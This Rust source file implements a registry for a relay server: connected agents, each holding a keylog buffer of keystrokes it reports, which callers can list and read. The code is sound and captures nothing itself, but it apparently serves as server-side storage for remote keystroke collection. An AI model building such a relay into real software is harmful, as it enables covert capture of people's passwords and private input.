//! Registry of authenticated agents.

use chrono::{DateTime, Utc};
use dashmap::DashMap;
use dashmap::mapref::entry::Entry;
use log::{debug, info};
use serde::Serialize;

use super::connection::{ConnectionHandle, ConnectionId};
use super::error::{RelayError, RelayResult};

/// One live agent.
#[derive(Debug)]
struct AgentRecord {
    connection: ConnectionHandle,
    keylog: String,
    connected_at: DateTime<Utc>,
}

/// Public view of a registered agent.
#[derive(Debug, Clone, Serialize)]
pub struct AgentSummary {
    pub id: String,
    pub connection: u64,
    pub connected_at: DateTime<Utc>,
    pub keylog_bytes: usize,
}

/// Agent id -> live connection plus per-agent state.
///
/// Each operation touches a single map shard and returns owned data, so no lock is
/// held once a method returns.
pub struct AgentRegistry {
    agents: DashMap<String, AgentRecord>,
    /// Upper bound for each keylog buffer in bytes, 0 for none.
    max_keylog_bytes: usize,
}

impl AgentRegistry {
    pub fn new(max_keylog_bytes: usize) -> Self {
        Self {
            agents: DashMap::new(),
            max_keylog_bytes,
        }
    }

    /// Register `agent_id` on `connection`.
    ///
    /// An id that is already registered is rejected and the existing entry is left
    /// untouched.
    pub fn register(&self, agent_id: &str, connection: ConnectionHandle) -> RelayResult<()> {
        match self.agents.entry(agent_id.to_string()) {
            Entry::Occupied(_) => Err(RelayError::AlreadyConnected),
            Entry::Vacant(slot) => {
                info!("Registered agent {} on {}", agent_id, connection.id());
                slot.insert(AgentRecord {
                    connection,
                    keylog: String::new(),
                    connected_at: Utc::now(),
                });
                Ok(())
            }
        }
    }

    /// Remove `agent_id` regardless of which connection holds it. Idempotent.
    pub fn unregister(&self, agent_id: &str) {
        if self.agents.remove(agent_id).is_some() {
            info!("Unregistered agent {}", agent_id);
        }
    }

    /// Remove `agent_id` only if it is still registered on `connection`.
    ///
    /// Returns whether an entry was removed.
    pub fn unregister_connection(&self, agent_id: &str, connection: ConnectionId) -> bool {
        let removed = self
            .agents
            .remove_if(agent_id, |_, record| record.connection.id() == connection)
            .is_some();
        if removed {
            info!("Unregistered agent {} from {}", agent_id, connection);
        }
        removed
    }

    pub fn lookup(&self, agent_id: &str) -> Option<ConnectionHandle> {
        self.agents
            .get(agent_id)
            .map(|record| record.connection.clone())
    }

    pub fn is_connected(&self, agent_id: &str) -> bool {
        self.agents.contains_key(agent_id)
    }

    /// Append keystrokes reported by `caller` about itself.
    ///
    /// Ignored unless `agent_id` is registered on `caller`. Returns whether the
    /// chunk was stored.
    pub fn append_keylog(&self, agent_id: &str, caller: ConnectionId, chunk: &str) -> bool {
        let Some(mut record) = self.agents.get_mut(agent_id) else {
            return false;
        };
        if record.connection.id() != caller {
            debug!(
                "Ignoring keylog for agent {} from foreign connection {}",
                agent_id, caller
            );
            return false;
        }

        record.keylog.push_str(chunk);
        truncate_front(&mut record.keylog, self.max_keylog_bytes);
        true
    }

    /// The keylog buffer, or `None` if the agent is not registered.
    pub fn keylog(&self, agent_id: &str) -> Option<String> {
        self.agents.get(agent_id).map(|record| record.keylog.clone())
    }

    /// The keylog buffer, empty for unknown agents.
    pub fn read_keylog(&self, agent_id: &str) -> String {
        self.keylog(agent_id).unwrap_or_default()
    }

    pub fn summary(&self, agent_id: &str) -> Option<AgentSummary> {
        self.agents
            .get(agent_id)
            .map(|record| summarize(record.key(), record.value()))
    }

    /// All registered agents, sorted by id.
    pub fn list(&self) -> Vec<AgentSummary> {
        let mut agents: Vec<_> = self
            .agents
            .iter()
            .map(|entry| summarize(entry.key(), entry.value()))
            .collect();
        agents.sort_by(|a, b| a.id.cmp(&b.id));
        agents
    }

    pub fn len(&self) -> usize {
        self.agents.len()
    }

    pub fn is_empty(&self) -> bool {
        self.agents.is_empty()
    }
}

impl Default for AgentRegistry {
    fn default() -> Self {
        Self::new(0)
    }
}

fn summarize(id: &str, record: &AgentRecord) -> AgentSummary {
    AgentSummary {
        id: id.to_string(),
        connection: record.connection.id().get(),
        connected_at: record.connected_at,
        keylog_bytes: record.keylog.len(),
    }
}

/// Drop the oldest bytes so `buffer` fits in `limit`, cutting on a char boundary.
fn truncate_front(buffer: &mut String, limit: usize) {
    if limit == 0 || buffer.len() <= limit {
        return;
    }
    let excess = buffer.len() - limit;
    let cut = (excess..=buffer.len())
        .find(|&idx| buffer.is_char_boundary(idx))
        .unwrap_or(buffer.len());
    buffer.drain(..cut);
}
